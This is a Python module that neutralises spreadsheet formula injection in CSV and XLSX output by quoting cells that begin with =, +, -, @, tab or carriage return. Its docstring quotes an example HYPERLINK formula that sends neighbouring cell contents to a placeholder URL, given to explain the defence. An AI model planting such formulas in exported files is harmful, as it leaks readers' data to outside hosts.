"""Cells of the spreadsheets apcert writes (CSV and XLSX) that no spreadsheet runs.

A spreadsheet opening a CSV file takes a cell that begins with ``=``, ``+``, ``-`` or ``@``,
or with a tab or a carriage return (which it skips before one of those), for a formula, and
runs it: a holder or a site named ``=HYPERLINK("http://...?x="&A1,"click")`` would send the
reader's other cells away on a click. Such a cell is written with a leading single quote,
which the spreadsheet shows as text. In XLSX a cell is typed: text is written as text, and
a text that begins like a formula also carries the "quote prefix" mark, so that editing the
cell keeps it text.
"""

from __future__ import annotations

#: What a spreadsheet takes for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def reads_as_formula(text: str) -> bool:
    """Whether a spreadsheet would take ``text``, as a cell, for a formula."""
    return text.startswith(FORMULA_STARTS)


def neutralised(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs as a formula: a leading single
    quote when it begins like one, else the text as it is."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
